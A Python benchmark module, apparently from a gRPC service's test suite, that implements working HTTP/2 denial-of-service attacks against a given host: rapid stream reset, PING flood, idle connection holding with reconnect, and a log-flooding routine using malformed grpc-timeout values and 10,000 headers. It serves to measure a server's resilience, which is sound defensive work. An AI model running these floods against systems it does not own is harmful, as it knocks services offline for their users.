"""Attackers below the servicer, each meant to run in a process of its own so its CPU is
not the measuring client's: ``python -m benchmarks.transport_attacks KIND HOST:PORT
[--seconds 20] [--connections 4]`` with KIND one of

- ``rapid-reset``: each connection opens streams (headers and a whole Evaluate request)
  and resets each at once (RST_STREAM CANCEL), 100 to a write, as fast as it can;
- ``ping-flood``: each connection sends PINGs, 100 to a write, as fast as it can;
- ``idle``: opens ``--connections`` TCP connections that send nothing, holding them for
  ``--seconds``.

``log_flood`` is the other kind: requests that make gRPC write to stderr (unparsable
``grpc-timeout``, 10,000 headers, replies left unsent on dropped connections).

An attacker goes on after GOAWAY (with ``--until-goaway`` each connection stops at its
first); a connection the server closes (seen by the reader, or as a reset or broken pipe
under a write) is not reopened, unless ``--reconnect``: then each is replaced by a new one
at once, for the whole attack, as a determined attacker would. ``--tls`` speaks TLS
(``--tls-cert`` and ``--tls-key`` present a client certificate, for a front that asks for
one): then each connection's frames are read between its writes, in the writing thread
(one TLS connection is never read and written from two threads at once). Prints one JSON
object: frames sent, connections ended by the server (and GOAWAYs seen), and the
attacker's own CPU seconds, the yardstick for the server's.
"""

from __future__ import annotations

import argparse
import json
import os
import socket
import ssl
import sys
import threading
import time
from dataclasses import dataclass, field

from handeval_client import evaluate_request

from benchmarks import raw_h2

EVALUATE = "/handeval.v1.HandEvaluator/Evaluate"
FRAMES_PER_WRITE = 100
REQUEST = evaluate_request("poker", "Ah Kh Qh Jh Th 2c 3d").SerializeToString()


@dataclass
class Tally:
    sent: int = 0
    opened: int = 0
    ended: int = 0
    goaways: int = 0
    lock: threading.Lock = field(default_factory=threading.Lock)


def _ended_by_server(tally: Tally, closed: threading.Event) -> None:
    """Count the connection once as ended by the server, unless we closed it first."""
    with tally.lock:
        if not closed.is_set():
            tally.ended += 1
        closed.set()


def _answer(data: bytes, tally: Tally, goaway: threading.Event) -> tuple[bytes, bytes]:
    """The server's whole frames in ``data`` read and dropped, but GOAWAY counted and each
    PING acknowledged, as a real client does: (the acknowledgements, the rest of data)."""
    frames, pending = raw_h2.read_frames(data)
    acks = b""
    for kind, flags, _stream, payload in frames:
        if kind == raw_h2.GOAWAY:
            with tally.lock:
                tally.goaways += 1
            goaway.set()
        if kind == raw_h2.PING and not flags & raw_h2.ACK:
            acks += raw_h2.frame(raw_h2.PING, raw_h2.ACK, 0, payload)
    return acks, pending


def _read_until_closed(
    connection: socket.socket, tally: Tally, closed: threading.Event, goaway: threading.Event
) -> None:
    """Read and drop the server's frames (``_answer``) until it closes the connection: an
    attacker does not stop at GOAWAY."""
    pending = b""
    try:
        while not closed.is_set():
            data = connection.recv(65536)
            if not data:
                break
            acks, pending = _answer(pending + data, tally, goaway)
            if acks:
                connection.sendall(acks)
    except OSError:
        pass
    finally:
        _ended_by_server(tally, closed)


def _read_waiting(
    connection: ssl.SSLSocket, pending: bytes, tally: Tally, goaway: threading.Event
) -> tuple[bytes, bool]:
    """What the server has sent so far, without waiting (``_answer``): the rest of a frame,
    and whether the server has closed the connection."""
    acks = b""
    connection.setblocking(False)
    try:
        while True:
            data = connection.recv(65536)
            if not data:
                return pending, True
            more, pending = _answer(pending + data, tally, goaway)
            acks += more
    except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
        pass
    except OSError:
        return pending, True
    finally:
        connection.settimeout(10.0)
    if acks:
        connection.sendall(acks)
    return pending, False


def _attack(
    host: str,
    port: int,
    kind: str,
    until: float,
    tally: Tally,
    until_goaway: bool,
    tls: ssl.SSLContext | None = None,
) -> None:
    try:
        connection = raw_h2.open_connection(host, port, tls=tls)
    except OSError:
        time.sleep(0.01)  # refused: a reconnecting attacker tries again
        return
    with tally.lock:
        tally.opened += 1
    closed, goaways = threading.Event(), threading.Event()
    reader = threading.Thread(target=_read_until_closed, args=(connection, tally, closed, goaways))
    if not isinstance(connection, ssl.SSLSocket):
        reader.start()
    block = raw_h2.header_block(raw_h2.request_headers(EVALUATE))
    stream = 1
    pending = b""
    try:
        while time.monotonic() < until and not closed.is_set():
            if isinstance(connection, ssl.SSLSocket):
                pending, ended = _read_waiting(connection, pending, tally, goaways)
                if ended:
                    _ended_by_server(tally, closed)
                    break
            if until_goaway and goaways.is_set():
                break
            frames = []
            for _ in range(FRAMES_PER_WRITE):
                if kind == "rapid-reset":
                    frames.append(raw_h2.headers(stream, block)
                                  + raw_h2.grpc_message(REQUEST, stream)
                                  + raw_h2.rst_stream(stream))  # fmt: skip
                    stream += 2
                else:
                    frames.append(raw_h2.ping(stream.to_bytes(8, "big")))
                    stream += 1
            connection.sendall(b"".join(frames))
            with tally.lock:
                tally.sent += FRAMES_PER_WRITE
    except (ConnectionError, ssl.SSLError):  # the server closed it under our write
        _ended_by_server(tally, closed)
    except OSError:
        pass
    finally:
        with tally.lock:
            closed.set()  # before closing: the reader does not count our own close
        connection.close()
        if reader.is_alive():
            reader.join()


def _hold_idle(
    host: str, port: int, count: int, seconds: float, tally: Tally, tls: ssl.SSLContext | None
) -> None:
    """``count`` connections that send nothing (with ``tls``: nothing after the handshake,
    HTTP/2's preface and the acknowledgement of the server's SETTINGS, as an idle client's
    connection), held for ``seconds`` from the first."""
    until = time.monotonic() + seconds
    held = []
    for _ in range(count):
        try:
            if tls is None:
                held.append(socket.create_connection((host, port), timeout=10))
            else:
                connection = raw_h2.open_connection(host, port, tls=tls, acknowledge=False)
                raw_h2.acknowledged(connection)
                held.append(connection)
            tally.sent += 1
        except OSError:
            tally.ended += 1
    time.sleep(max(until - time.monotonic(), 0.0))
    for connection in held:
        connection.close()


def _send_and_drop(port: int, frames: bytes, window: int | None = None) -> None:
    """One connection that sends ``frames`` and goes away without reading the reply
    (with ``window`` 0 the server cannot even send it before the connection drops)."""
    values = [] if window is None else [(raw_h2.INITIAL_WINDOW_SIZE, window)]
    settings = raw_h2.settings(values=values)
    with socket.create_connection(("127.0.0.1", port), timeout=10) as connection:
        connection.sendall(raw_h2.PREFACE + settings + frames)
        try:
            connection.settimeout(0.05)
            connection.recv(65536)
        except OSError:
            pass


def _evaluate_call(stream: int, extra: list[tuple[str, str]]) -> bytes:
    block = raw_h2.header_block(raw_h2.request_headers(EVALUATE, extra=extra))
    return raw_h2.headers(stream, block) + raw_h2.grpc_message(REQUEST, stream)


def log_flood(port: int, connections: int) -> None:
    """What callers did to fill the server's log with lines that are not JSON: one
    connection each, in turn an unparsable ``grpc-timeout``, an overlong one, 10 Evaluates
    whose replies cannot be sent before the connection drops, and every 20th 10,000
    headers."""
    many = [(f"x-header-{i}", "v") for i in range(10_000)]
    for index in range(connections):
        kind = index % 4
        if kind == 0:
            _send_and_drop(port, _evaluate_call(1, [("grpc-timeout", "banana")]))
        elif kind == 1:
            _send_and_drop(port, _evaluate_call(1, [("grpc-timeout", "9" * 40 + "S")]))
        elif kind == 2 and index % 20 == 2:
            _send_and_drop(port, _evaluate_call(1, many))
        else:
            calls = b"".join(_evaluate_call(n, []) for n in range(1, 20, 2))
            _send_and_drop(port, calls, window=0)


def _attack_until(
    host: str,
    port: int,
    kind: str,
    until: float,
    tally: Tally,
    flags: tuple[bool, bool],
    tls: ssl.SSLContext | None = None,
) -> None:
    """One attacking connection; with ``reconnect``, a new one each time the server ends
    it, until the attack's end."""
    until_goaway, reconnect = flags
    _attack(host, port, kind, until, tally, until_goaway, tls)
    while reconnect and time.monotonic() < until:
        _attack(host, port, kind, until, tally, until_goaway, tls)


def run(
    kind: str,
    target: str,
    seconds: float,
    connections: int,
    until_goaway: bool = False,
    reconnect: bool = False,
    tls: ssl.SSLContext | None = None,
) -> dict[str, object]:
    host, port = target.rsplit(":", 1)
    tally = Tally()
    began = os.times()
    if kind == "idle":
        _hold_idle(host, int(port), connections, seconds, tally, tls)
    else:
        until = time.monotonic() + seconds
        attackers = [
            threading.Thread(
                target=_attack_until,
                args=(host, int(port), kind, until, tally, (until_goaway, reconnect), tls),
            )
            for _ in range(connections)
        ]
        for attacker in attackers:
            attacker.start()
        for attacker in attackers:
            attacker.join()
    ended = os.times()
    return {
        "kind": kind,
        "connections": connections,
        "frames_sent": tally.sent,
        "connections_opened": tally.opened,
        "connections_ended_by_server": tally.ended,
        "goaways": tally.goaways,
        "attacker_cpu_s": round(ended.user + ended.system - began.user - began.system, 2),
    }


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m benchmarks.transport_attacks")
    parser.add_argument("kind", choices=("rapid-reset", "ping-flood", "idle"))
    parser.add_argument("target", help="HOST:PORT")
    parser.add_argument("--seconds", type=float, default=20.0)
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument(
        "--until-goaway", action="store_true", help="a connection stops at its first GOAWAY"
    )
    parser.add_argument(
        "--reconnect", action="store_true",
        help="open a new connection each time the server ends one, until --seconds are up",
    )  # fmt: skip
    parser.add_argument("--tls", action="store_true", help="speak TLS (ALPN h2)")
    parser.add_argument("--tls-cert", default="", help="with --tls: a client certificate")
    parser.add_argument("--tls-key", default="", help="with --tls: its key")
    options = parser.parse_args(argv)
    tls = raw_h2.tls_context(cert=options.tls_cert, key=options.tls_key) if options.tls else None
    report = run(options.kind, options.target, options.seconds, options.connections,
                 options.until_goaway, options.reconnect, tls)  # fmt: skip
    print(json.dumps(report))
    return 0


if __name__ == "__main__":
    sys.exit(main())
